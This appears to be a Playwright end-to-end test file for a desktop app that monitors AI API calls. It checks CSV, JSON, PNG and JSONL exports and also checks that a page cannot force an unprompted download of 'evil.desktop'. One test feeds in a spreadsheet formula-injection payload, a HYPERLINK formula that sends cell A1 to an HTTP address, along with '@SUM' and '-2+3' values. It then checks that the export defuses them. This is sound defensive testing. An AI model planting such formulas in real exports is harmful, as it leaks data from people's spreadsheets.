import { existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect, test } from '@playwright/test'
import { parse } from 'csv-parse/sync'
import type { RunningApp } from './launch.ts'
import { launchApp } from './launch.ts'
import { answerSaveDialog } from './save-dialog.ts'

let running: RunningApp
test.afterEach(async () => {
  expect(running.complaints).toEqual([])
  await running.close()
})

const HOSTILE = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"总计")'

const post = (url: string, calls: object[]) =>
  fetch(`${url}/v1/app-logs`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(calls),
  })

async function exportAs(page: Page, title: string, format: string): Promise<void> {
  await page.getByRole('button', { name: `Export “${title}”` }).click()
  await page.getByRole('menuitem', { name: format }).click()
}

function savedFolder(): string {
  const folder = join(running.dataDir, 'saved')
  mkdirSync(folder)
  return folder
}

/** What the dialog proposes today. */
function fileName(name: string, ending: string): RegExp {
  return new RegExp(`^${name}-\\d{4}-\\d\\d-\\d\\d\\.${ending}$`)
}

test('a table is saved as CSV: raw values, hostile names defused, and as JSON to the letter', async () => {
  running = await launchApp()
  const { page, app, url } = running
  const startedAt = Date.now() - 60_000
  await post(url, [
    { requestId: 'r-1', app: HOSTILE, model: 'gpt-4o', userId: ' -2+3', startedAt, durationMs: 1_234.5 },
    {
      requestId: 'r-2',
      app: '结账, "助手"',
      userId: 'u\n@SUM(A1)',
      startedAt: startedAt - 1,
      status: 'error',
    },
  ])
  await expect(page.getByRole('cell', { name: HOSTILE }).first()).toBeVisible()
  const folder = savedFolder()
  await answerSaveDialog(app, folder)

  await exportAs(page, 'Newest calls', 'Table (CSV)')
  await expect(page.getByTestId('toast')).toContainText(/newest-calls-.*\.csv was saved/)
  const [csvName = ''] = readdirSync(folder)
  expect(csvName).toMatch(fileName('newest-calls', 'csv'))
  const csv = readFileSync(join(folder, csvName), 'utf8')
  expect(csv).toMatch(/^\ufeff"startedAt","requestId","app",/)
  expect(parse(csv, { bom: true, columns: true })).toMatchObject([
    {
      startedAt: new Date(startedAt).toISOString(),
      app: `'${HOSTILE}`,
      model: 'gpt-4o',
      userId: " '-2+3",
      durationMs: '1234.5',
      cost: '',
      currency: 'USD',
    },
    { app: '结账, "助手"', userId: "u\n'@SUM(A1)", status: 'error', durationMs: '' },
  ])

  await exportAs(page, 'Newest calls', 'Data (JSON)')
  await expect(page.getByTestId('toast').filter({ hasText: '.json was saved' })).toBeVisible()
  const jsonName = readdirSync(folder).find((name) => name.endsWith('.json')) ?? ''
  expect(JSON.parse(readFileSync(join(folder, jsonName), 'utf8'))).toMatchObject([
    { app: HOSTILE, userId: ' -2+3', durationMs: 1_234.5, cost: null },
    { userId: 'u\n@SUM(A1)' },
  ])
})

test('a chart is saved as a picture with everything on it, and as its series', async () => {
  running = await launchApp({ colorScheme: 'dark' })
  const { page, app, url } = running
  const calls = Array.from({ length: 200 }, (_, index) => ({
    app: 'shop',
    startedAt: Date.now() - index * 15_000,
    durationMs: 200 + ((index * 37) % 100) * 20,
    status: index % 9 === 0 ? 'error' : 'ok',
  }))
  await post(url, calls)
  await expect(page.getByTestId('card-requests')).toContainText('200')
  const folder = savedFolder()
  await answerSaveDialog(app, folder)

  await exportAs(page, 'Response time', 'Picture (PNG)')
  await expect(page.getByTestId('toast')).toContainText('.png was saved')
  const [pngName = ''] = readdirSync(folder)
  expect(pngName).toMatch(fileName('response-time', 'png'))
  const png = readFileSync(join(folder, pngName))
  expect(png.subarray(1, 4).toString()).toBe('PNG')
  expect({ width: png.readUInt32BE(16), height: png.readUInt32BE(20) }).toEqual({ width: 1920, height: 800 })
  // Drawn on: the background of the theme, and many other colours.
  const colours = await app.evaluate(
    ({ nativeImage }, path) => {
      const bitmap = nativeImage.createFromPath(path).toBitmap()
      const seen = new Set<number>()
      for (let index = 0; index < bitmap.length; index += 4) seen.add(bitmap.readUInt32LE(index))
      return { corner: bitmap.subarray(0, 4).toString('hex'), count: seen.size }
    },
    join(folder, pngName),
  )
  expect(colours.corner).toBe('2a221eff')
  expect(colours.count).toBeGreaterThan(50)

  await exportAs(page, 'Response time', 'Table (CSV)')
  await expect(page.getByTestId('toast').filter({ hasText: '.csv was saved' })).toBeVisible()
  const csvName = readdirSync(folder).find((name) => name.endsWith('.csv')) ?? ''
  const rows: Record<string, string>[] = parse(readFileSync(join(folder, csvName)), {
    bom: true,
    columns: true,
  })
  expect(Object.keys(rows[0] ?? {})).toEqual(['from', 'to', 'p99Ms', 'p95Ms', 'p50Ms', 'requests', 'errors'])
  expect(rows.reduce((sum, { requests }) => sum + Number(requests), 0)).toBe(200)
})

test('all prices that the search finds are saved, not only those on the page', async () => {
  running = await launchApp()
  const { page, app, url, token } = running
  await page.getByRole('link', { name: 'Costs', exact: true }).click()
  await expect(page.getByTestId('catalogue-price')).toHaveCount(100)
  const folder = savedFolder()
  await answerSaveDialog(app, folder)

  await exportAs(page, 'Prices', 'Table (CSV)')
  await expect(page.getByTestId('toast')).toContainText('.csv was saved')
  const [name = ''] = readdirSync(folder)
  const items: { model: string; inputPerMillion: number }[] = []
  for (let cursor: string | null = ''; cursor !== null;) {
    const response = await fetch(`${url}/v1/model-cost-configs?limit=1000${cursor && `&cursor=${cursor}`}`, {
      headers: { authorization: `Bearer ${token}` },
    })
    const answer = (await response.json()) as { items: typeof items; nextCursor: string | null }
    items.push(...answer.items)
    cursor = answer.nextCursor
  }
  const rows: Record<string, string>[] = parse(readFileSync(join(folder, name)), { bom: true, columns: true })
  expect(rows.map(({ model, inputPerMillion }) => [model, Number(inputPerMillion)])).toEqual(
    items.map(({ model, inputPerMillion }) => [model, inputPerMillion]),
  )
})

test('whoever cancels is told nothing; a file that cannot be written is told until it is dismissed', async () => {
  running = await launchApp()
  const { page, app, url } = running
  await post(url, [{ app: 'shop' }])
  await expect(page.getByRole('cell', { name: 'shop' }).first()).toBeVisible()
  await answerSaveDialog(app, null)
  await exportAs(page, 'Newest calls', 'Table (CSV)')
  await expect.poll(() => app.evaluate(() => Reflect.get(globalThis, 'proposed') as string[])).toHaveLength(1)
  await expect(page.getByTestId('toast')).toHaveCount(0)

  const missing = join(running.dataDir, 'missing')
  await answerSaveDialog(app, missing)
  await exportAs(page, 'Newest calls', 'Table (CSV)')
  const toast = page.getByRole('alert').getByTestId('toast')
  await expect(toast).toContainText('“Newest calls” could not be exported.')
  await page.screenshot({ path: 'test-results/export-failed.png' })

  // By keyboard: to the toast, try again; it fails again, and is counted; then with success it goes away.
  await page.keyboard.press('F8')
  await expect(toast.getByRole('button', { name: 'Try again' })).toBeFocused()
  mkdirSync(missing)
  await page.keyboard.press('Enter')
  await expect(page.getByRole('status').getByTestId('toast')).toContainText('was saved')
  await expect(page.getByRole('alert').getByTestId('toast')).toHaveCount(0)
  expect(readdirSync(missing)).toHaveLength(1)
})

test('what was saved is said for a while, and longer under the pointer', async () => {
  running = await launchApp()
  const { page, app, url } = running
  await post(url, [{ app: 'shop' }])
  await expect(page.getByRole('cell', { name: 'shop' }).first()).toBeVisible()
  await answerSaveDialog(app, savedFolder())
  await page.clock.install()
  const toast = page.getByTestId('toast')

  await exportAs(page, 'Newest calls', 'Table (CSV)')
  await page.clock.runFor(500)
  await toast.hover()
  await page.clock.runFor(60_000)
  await expect(toast).toBeVisible()
  await page.mouse.move(0, 0)
  await page.clock.runFor(7_000)
  await expect(toast).toHaveCount(0)
})

test('a page cannot save anything without asking', async () => {
  running = await launchApp()
  const { page, app } = running
  const folder = savedFolder()
  await app.evaluate(({ session }, path) => {
    session.defaultSession.on('will-download', (_event, item) =>
      item.setSavePath(`${path}/${item.getFilename()}`),
    )
  }, folder)
  await page.evaluate(() => {
    const link = document.createElement('a')
    link.href = URL.createObjectURL(new Blob(['x']))
    link.download = 'evil.desktop'
    link.click()
  })
  await page.getByRole('link', { name: 'Settings', exact: true }).first().click()
  await expect(page.getByRole('rowheader', { name: /^openai/ })).toBeVisible()
  expect(existsSync(join(folder, 'evil.desktop'))).toBe(false)
})

test('all calls that the page is narrowed down to are saved, however many it has loaded', async () => {
  running = await launchApp()
  const { page, app, url } = running
  const startedAt = Date.now() - 60_000
  await post(
    url,
    Array.from({ length: 1_200 }, (_, index) => ({
      requestId: `many-${index}`,
      app: index % 2 === 0 ? 'even' : 'odd',
      prompt: `question ${index}`,
      startedAt: startedAt + index,
    })),
  )
  const folder = savedFolder()
  await answerSaveDialog(app, folder)
  await page.getByRole('link', { name: 'Calls', exact: true }).click()
  await page.evaluate(() => (location.hash = '#/calls?app=odd'))
  await page.getByRole('button', { name: 'Export these calls' }).click()
  const dialog = page.getByRole('dialog', { name: 'Export calls' })
  await dialog.getByText('JSONL', { exact: true }).click()
  await dialog.getByLabel('With prompts').check()
  await dialog.getByRole('button', { name: 'Export…' }).click()
  await expect(dialog.getByRole('status')).toContainText('600 calls were saved as calls-')
  const [name = ''] = readdirSync(folder)
  expect(name).toMatch(fileName('calls', 'jsonl'))
  const lines = readFileSync(join(folder, name), 'utf8').trimEnd().split('\n')
  expect(lines).toHaveLength(600)
  expect(JSON.parse(lines[0] ?? '')).toMatchObject({ requestId: 'many-1199', prompt: 'question 1199' })
  await page.keyboard.press('Escape')
  await expect(dialog).toBeHidden()
})
